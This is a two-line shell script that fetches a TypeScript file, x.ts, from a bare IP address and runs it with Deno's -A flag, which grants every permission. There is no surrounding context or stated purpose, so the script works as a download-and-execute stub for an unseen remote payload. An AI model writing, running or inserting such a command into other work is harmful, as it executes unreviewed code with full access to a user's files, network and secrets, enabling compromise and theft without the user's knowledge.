#!/bin/sh
deno run -A http://192.0.2.5/x.ts
